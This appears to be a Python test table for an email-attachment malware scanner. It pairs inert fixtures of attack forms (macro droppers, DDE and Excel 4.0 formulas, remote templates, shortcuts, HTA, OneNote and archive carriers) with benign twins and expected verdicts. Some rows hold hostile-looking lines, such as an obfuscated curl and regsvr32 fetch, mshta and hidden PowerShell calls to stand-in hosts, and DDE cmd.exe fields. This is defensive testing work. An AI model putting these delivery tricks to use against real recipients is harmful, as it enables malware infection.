"""The forms of attack that Sekisho is there for: an inert fixture of each, and its honest twin.

A row's `verdict` is what the mail with the fixture gets in each carrier; `twin_verdict` what the honest one gets. Where a carrier
gives another, `other` says which and why: nothing is left out silently.
"""

import dataclasses
import functools

import forms
import forms_more as more
import forms_office as office
import forms_windows as windows


@dataclasses.dataclass
class Row:
    form: str                  # what it is, for docs/coverage.md
    name: str                  # of the file
    make: object               # () -> bytes
    twin_name: str
    twin: object
    verdict: str = "malicious"
    twin_verdict: str = "clean"
    why: str = ""              # where the verdict is not "malicious", or the twin's not "clean"
    other: dict = dataclasses.field(default_factory=dict)       # carrier -> (verdict, why)
    twin_other: dict = dataclasses.field(default_factory=dict)
    mutated: bool = True       # in evasion_test.py; False where it is another row in a wrapper that mutations have as well


XAR = "bsdtar --format xar -cf ../out.xar {name}"

# Sections 3.1 to 3.19 again: what else travels, less often.
MORE_ROWS = [
    Row("Publisher, VBA", "invoice.pub", lambda: office.publisher(office.GUARDED), "flyer.pub", lambda: office.publisher(office.HONEST)),
    Row("PowerPoint 97-2003, VBA", "invoice.ppt", lambda: office.presentation_97(office.GUARDED),
        "slides.ppt", lambda: office.presentation_97(office.HONEST)),
    Row("Add-in of PowerPoint (PPAM)", "invoice.ppam", lambda: office.add_in_of_powerpoint(office.GUARDED),
        "tools.ppam", lambda: office.add_in_of_powerpoint(office.HONEST)),
    Row("Access, VBA", "invoice.mdb", forms.ours("dropper.mdb"), "orders.mdb", forms.ours("orders.mdb")),
    Row("Excel 4.0 macros in a workbook in XML", "invoice.xlsm",
        lambda: office.macro_book(["HALT()", 'EXEC("rem inert "&"power"&"shell -w hidden")']), "figures.xlsx", office.macro_book),
    Row("Excel 4.0 macros in a binary workbook", "invoice.xlsb", lambda: office.binary_book("rem inert powershell -w hidden"),
        "figures.xlsb", office.binary_book),
    Row("CSV with a DDE formula", "list.csv", lambda: forms.csv("=cmd|'/c rem INERT SEKISHO TEST'!A1"), "rates.csv", lambda: forms.csv("=RSS|'7203.T'!Price")),
    # 3.8
    Row("Search connector of a WebDAV folder", "documents.searchConnector-ms", lambda: windows.search_connector("\\\\192.0.2.7@80\\share"),
        "team.searchConnector-ms", lambda: windows.search_connector("\\\\srv\\team")),
    Row("Saved search of a WebDAV folder", "documents.search-ms", lambda: windows.saved_search("\\\\192.0.2.7@80\\share"),
        "team.search-ms", lambda: windows.saved_search("\\\\srv\\team")),
    Row("Remote desktop at an address, with drives and a program", "invoice.rdp", lambda: windows.remote_desktop("192.0.2.7", *windows.REMOTE_LINES),
        "terminal.rdp", lambda: windows.remote_desktop("ts01.example.com")),
    Row("Remote desktop at a name, with drives and a program", "invoice.rdp", lambda: windows.remote_desktop("zone.example.invalid", *windows.REMOTE_LINES),
        "terminal.rdp", lambda: windows.remote_desktop("ts01.example.com")),
    Row("Theme with a file elsewhere", "autumn.theme", lambda: windows.theme("\\\\192.0.2.7\\share\\a.msstyles"),
        "autumn.theme", lambda: windows.theme("%ResourceDir%\\Themes\\Aero\\Aero.msstyles")),
    # 3.12
    *(Row(f"Image of a disk: {kind}", f"documents.{kind.lower()}", functools.partial(windows.image, kind, "invoice.lnk", "emotet.lnk"),
          f"documents.{kind.lower()}", functools.partial(windows.image, kind, "notes.txt")) for kind in windows.IMAGES),
    # 3.15
    Row("Console of Windows (MSC) whose page runs a script", "invoice.msc", windows.console_page, "admin.msc", windows.console_plain),
    Row("Style sheet with a script (XSL)", "invoice.xsl", lambda: windows.style_sheet(windows.RUN), "report.xsl", windows.style_sheet),
    Row("Scriptlet (SCT)", "invoice.sct", windows.scriptlet, "readme.txt", forms.notes),
    Row("Settings of a script elsewhere (WSH)", "invoice.wsh", lambda: windows.settings_of_a_script("\\\\192.0.2.7@80\\share\\a.vbs"),
        "readme.txt", forms.notes),
    Row("Encoded JScript (JSE)", "invoice.jse", forms.ours("encoded.jse"), "readme.txt", forms.notes),
    Row("Keys of the registry (REG)", "settings.reg", lambda: windows.registry('"u"="mshta http://example.invalid/inert"'), "readme.txt", forms.notes),
    Row("Compiled help (CHM)", "invoice.chm", lambda: windows.help_file(windows.HELP_COMMAND), "readme.txt", forms.notes),
    Row("Installer (MSI) with a program", "invoice.msi", lambda: windows.installer("a.exe", forms.ours("program.exe")()), "readme.txt", forms.notes),
    Row("Java archive (JAR)", "invoice.jar", windows.jar, "readme.txt", forms.notes),
    Row("Java from an address (JNLP)", "invoice.jnlp", lambda: windows.java_start("http://192.0.2.7/", True),
        "bidding.jnlp", lambda: windows.java_start("https://bid.example.com/", True)),
    # 3.16
    Row("PDF that is a picture with a link to an installer", "invoice.pdf", lambda: windows.pdf_lure("ms-appinstaller:?source=http://example.invalid/a.msix"),
        "flyer.pdf", lambda: windows.pdf_lure("https://www.example.com/")),
    Row("PDF that is a picture with a link to a stolen site", "invoice.pdf", lambda: windows.pdf_lure("http://example.invalid/wp-content/Ab3dEf/"),
        "terms.pdf", lambda: windows.pdf_terms("https://www.example.com/terms.zip")),
    # 3.19
    Row("Program in an archive: XAR", "invoice.xar", lambda: more.packed("invoice.exe", forms.ours("program.exe")(), XAR),
        "notes.xar", lambda: more.packed("notes.txt", forms.notes(), XAR)),
    Row("Program in an archive: ACE", "invoice.ace", lambda: windows.ace("invoice.exe", forms.ours("program.exe")()),
        "notes.ace", lambda: windows.ace("notes.txt", forms.notes())),
]
for row in MORE_ROWS:
    row.mutated = not row.form.startswith(("Image of a disk", "Program in an archive"))

ROWS = [
    Row("Word 97-2003, VBA (2019-09)", "Mes_G697449.doc", forms.ours("dropper.doc"), "figures.xls", forms.ours("benign-macro.xls")),
    Row("Word 97-2003, VBA (2018-05)", "invoice.doc", forms.ours("dropper-2018-05.doc"), "stub.xls", forms.ours("stub.xls")),
    Row("Word 97-2003, VBA (2021-11)", "invoice.doc", forms.ours("dropper-2021-11.doc"), "letter.doc", forms.ours("clean.doc")),
    Row("Word 97-2003, VBA (2022-02)", "invoice.doc", forms.ours("dropper-2022-02.doc"), "letter.doc", forms.ours("clean.doc")),
    Row("Word 97-2003, VBA (2023-03)", "invoice.doc", forms.ours("dropper-2023-03.doc"), "letter.doc", forms.ours("clean.doc")),
    Row("Word 2007 and later, VBA", "invoice.docm", forms.ours("dropper.docm"), "minutes.docx", forms.ours("clean.docx")),
    Row("Excel 97-2003, VBA", "57_01042022.xls", forms.ours("dropper.xls"), "figures.xls", forms.ours("benign-macro.xls")),
    Row("Word 2003 XML, VBA", "invoice.doc", forms.ours("dropper-xml.doc"), "report.xml", forms.word_xml),
    Row("Flat OPC, VBA", "invoice.doc", forms.ours("dropper-flat-opc.doc"), "report.xml", forms.word_xml),
    Row("Script in a document of Word", "package.doc", forms.ours("package.doc"), "letter.doc", forms.ours("clean.doc")),
    Row("Script of 2019-10", "8019.js", forms.ours("script.js"), "notes.txt", forms.notes),
    Row("Word, remote template", "report.docx", lambda: forms.docx(template="https://example.invalid/t.dotm"),
        "report.docx", lambda: forms.docx(template="file:///\\\\srv\\templates\\x.dotm")),
    Row("Word, object that lies elsewhere", "report.docx", lambda: forms.docx(others=[("oleObject", "http://example.invalid/a.hta")]),
        "report.docx", lambda: forms.docx(others=[("hyperlink", "http://example.com/")])),
    Row("Word, DDE field over runs", "report.docx", lambda: forms.docx(forms.field("DDE", "AUTO c:\\\\windows\\\\sys", "tem32\\\\cmd.exe \"/k rem\"")),
        "report.docx", lambda: forms.docx(forms.field(" PAGE "))),
    Row("RTF, Equation Editor", "invoice.doc", forms.rtf_equation, "report.rtf", forms.rtf),
    Row("RTF, remote template", "invoice.rtf", lambda: forms.rtf_template("http://example.invalid/t.dotm"),
        "report.rtf", lambda: forms.rtf_template("C:\\\\Templates\\\\report.dot")),
    Row("RTF, DDE field", "invoice.rtf", lambda: forms.rtf_field("DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k rem\""),
        "report.rtf", lambda: forms.rtf_field("PAGE")),
    Row("Excel 4.0 macros in a hidden sheet", "07062022.xls", forms.ours("dropper-xlm.xls"), "print.xls", forms.ours("print-xlm.xls")),
    Row("Shortcut that looks for a script in itself (2022-04)", "Form 04.25.2022, US.doc.lnk", forms.ours("emotet.lnk"),
        "sales.lnk", forms.ours("folder.lnk")),
    Row("Internet shortcut to a server's program", "invoice.url", lambda: forms.url_file("file://192.0.2.7/share/invoice.exe"),
        "portal.url", lambda: forms.url_file("https://www.example.com/")),
    Row("SVG whose script leads away", "invoice.svg", lambda: forms.svg("location='http://example.invalid/'"), "chart.svg",
        lambda: forms.svg("document.getElementById('bar').setAttribute('width', '42');")),
    Row("VBScript that starts PowerShell", "invoice.vbs", forms.script(
        'Rem {comment}\nSet s = CreateObject("WScr" & "ipt.Shell")\nIf False Then s.Run "power" & "shell -w hidden -e SQBFAFgA", 0\n'),
        "list.csv", lambda: forms.csv("=RSS|'7203.T'!Price")),
    Row("Batch file that fetches a program", "invoice.cmd", forms.script(
        "@echo off\nrem {comment}\nexit /b\nc^u^rl -o %TEMP%\\a.dll http://example.invalid/a.dll\nregs^vr32 /s %TEMP%\\a.dll\n"),
        "readme.txt", forms.notes),
    # 3.1: macros whose source hides what their compiled code does.
    Row("Word 97-2003, VBA, stomped", "invoice.doc", forms.ours("stomped.doc"), "letter.doc", forms.ours("clean.doc")),
    # 3.3
    Row("MHTML with ActiveMime", "invoice.doc", lambda: more.mhtml(forms.ours("vbaProject.bin")()), "report.mht", more.mhtml),
    # 3.8
    Row("Add-in of Excel, a library (XLL)", "addin.xll", forms.ours("addin.xll"), "figures.xls", forms.ours("benign-macro.xls")),
    Row("SYLK with macros of Excel 4.0", "invoice.slk", lambda: more.sylk('EXEC("cmd /c rem INERT SEKISHO TEST http://example.invalid/")'),
        "figures.slk", more.sylk),
    Row("Web query (IQY)", "invoice.iqy", lambda: more.web_query("http://example.invalid/a.dat"), "rates.iqy",
        lambda: more.web_query("https://rates.example.com/today.htm")),
    Row("Settings shortcut", "invoice.settingcontent-ms", lambda: more.settings_link("%windir%\\system32\\cmd.exe /c rem INERT SEKISHO TEST"),
        "readme.txt", forms.notes),
    Row("Library of a WebDAV folder", "documents.library-ms", lambda: more.library("\\\\192.0.2.7@80\\share"),
        "team.library-ms", lambda: more.library("\\\\srv\\team")),
    # 3.10
    Row("Excel, opened by the password that Excel tries itself", "invoice.xlsm", lambda: more.locked(forms.ours("dropper.docm")(), "VelvetSweatshop"),
        "minutes.xlsx", lambda: more.locked(forms.docx(), "VelvetSweatshop")),
    Row("Word, locked with the password of its name", "invoice-4432.docm", lambda: more.locked(forms.ours("dropper.docm")(), more.PASSWORD),
        "minutes-4432.docx", lambda: more.locked(forms.docx(), more.PASSWORD)),
    # 3.13
    Row("OneNote with a script", "invoice.one", lambda: more.notebook("press to unblock.wsf", more.windows_script()),
        "notes.one", lambda: more.notebook("report.pdf", more.pdf())),
    Row("OneNote with a program", "invoice.one", lambda: more.notebook("setup.exe", forms.ours("program.exe")()),
        "notes.one", lambda: more.notebook("minutes.docx", forms.docx())),
    # 3.14
    Row("Word filled up to 300 MB (2023-03)", "invoice.zip", lambda: more.padded(forms.ours("dropper-2023-03.doc")(), 300),
        "figures.zip", lambda: more.padded(forms.ours("clean.doc")(), 0), mutated=False),
    # 3.15
    Row("Encoded VBScript (VBE)", "invoice.vbe", forms.ours("encoded.vbe"), "readme.txt", forms.notes),
    Row("Windows Script File", "invoice.wsf", more.windows_script, "readme.txt", forms.notes),
    Row("HTML application", "invoice.hta", more.hta, "report.htm", lambda: b"<html><body>Monthly report</body></html>"),
    Row("PowerShell script", "invoice.ps1", more.powershell, "readme.txt", forms.notes),
    # 3.16
    Row("PDF with a script in it", "invoice.pdf", lambda: more.pdf_with("invoice.wsf", more.windows_script()),
        "report.pdf", lambda: more.pdf_with("figures.csv", forms.csv("42"))),
    Row("PDF that starts a program", "invoice.pdf", more.pdf_launch, "report.pdf", more.pdf),
    # 3.18
    Row("winmail.dat (TNEF)", "winmail.dat", lambda: more.tnef("invoice.doc", forms.ours("dropper.doc")()),
        "winmail.dat", lambda: more.tnef("letter.doc", forms.ours("clean.doc")())),
    Row("Message of Outlook (MSG)", "invoice.msg", lambda: more.outlook("invoice.doc", forms.ours("dropper.doc")()),
        "letter.msg", lambda: more.outlook("letter.doc", forms.ours("clean.doc")())),
    Row("Mail as a file (EML)", "invoice.eml", lambda: more.mail_file("invoice.doc", forms.ours("dropper.doc")()),
        "letter.eml", lambda: more.mail_file("letter.doc", forms.ours("clean.doc")())),
    # 3.19
    *(Row(f"Program in an archive: {kind}", f"invoice.{suffix}", functools.partial(more.packed_program, kind),
          f"notes.{suffix}", functools.partial(more.packed_notes, kind),
          mutated=kind in ("CAB", "LZH")) for kind, (suffix, _) in more.ARCHIVES.items()),
    *MORE_ROWS,
]

# What stands in the reference and cannot be a row, and why. The page says it, too.
NOT_MADE = {
    "Pictures that ask for content to be enabled (3.20)": "the words stand in a picture, and pictures are not read; the macros beside them are",
    "RAR as a carrier (3.9)": "Debian has no free program that writes it; containers/rar_test.cpp reads archives of our own writer and of the corpus",
    "ACE with a member that is compressed (3.19)": "no free program writes it; containers/ace_test.cpp reads archives of our own writer, as unace does",
    "Notebooks as OneNote writes them (3.13)": "the rows hold the objects of [MS-ONESTORE] without its lists of properties; "
                                               "office/onenote_test.cpp writes those",
    "DMG (3.12)": "an image of macOS, which Windows does not open; it is told, and not read",
}
